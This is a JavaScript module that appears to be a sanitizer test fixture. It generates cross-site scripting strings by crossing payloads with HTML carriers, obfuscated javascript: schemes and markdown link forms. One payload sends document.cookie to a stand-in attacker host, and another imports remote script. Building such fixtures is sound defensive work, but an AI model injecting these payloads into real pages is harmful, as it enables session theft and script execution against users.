// Texts that have run as scripts somewhere: carriers times payloads, with the usual disguises. As notes they must stay text.

const PAYLOADS = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')", "self['al'+'ert'](1)"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html;base64,PHNjcmlwdD4=", "data:text/html,<script>", "livescript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:https://a.example/", "filesystem:https://a.example/", "%6aavascript:", "javascript\u200b:"];
const CARRIERS = [
  (run) => `<script>${run}</script>`, (run) => `<img src=x onerror="${run}">`, (run) => `<svg onload=${run}>`, (run) => `<body onload="${run}">`,
  (run) => `<details open ontoggle=${run}>`, (run) => `<iframe srcdoc="<script>${run}</script>">`, (run) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<svg><style><img/src=x onerror=${run}></style></svg>`, (run) => `"><script>${run}</script>`, (run) => `';${run};//`, (run) => `\${${run}}`, (run) => `{{${run}}}`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`, (run) => `<a href="x" onmouseover=${run}>b</a>`, (run) => `<input autofocus onfocus=${run}>`, (run) => `<template><script>${run}</script></template>`,
  (run) => `<object data="javascript:${run}">`, (run) => `<embed src="javascript:${run}">`, (run) => `<base href="javascript:${run}//">`, (run) => `<link rel=import href="data:text/html,<script>${run}</script>">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`, (run) => `<style>@import 'javascript:${run}';</style>`, (run) => `<div style="background:url(javascript:${run})">`, (run) => `<marquee onstart=${run}>`,
  (run) => `<video><source onerror="${run}"></video>`, (run) => `<form action="javascript:${run}"><button>go</button></form>`, (run) => `<!--<img src="--><img src=x onerror=${run}//">`, (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `\u003cscript\u003e${run}\u003c/script\u003e`, (run) => `<scr<script>ipt>${run}</scr</script>ipt>`, (run) => `<x onclick=${run}>**b**</x>`, (run) => `\`<script>${run}</script>\``, (run) => `**<script>${run}</script>**`,
];
const LINKS = [
  (to) => `[a](${to})`, (to) => `[a](<${to}>)`, (to) => `**[a](${to})**`, (to) => `[https://good.example](${to})`, (to) => `<a href="${to}">a</a>`, (to) => `![a](${to})`, (to) => `[a]: ${to}\n[a]`, (to) => to,
];

export const HOSTILE = [
  ...PAYLOADS.flatMap((run) => CARRIERS.map((carry) => carry(run))),
  ...SCHEMES.flatMap((scheme) => PAYLOADS.slice(0, 3).flatMap((run) => LINKS.map((carry) => carry(scheme + run)))),
];
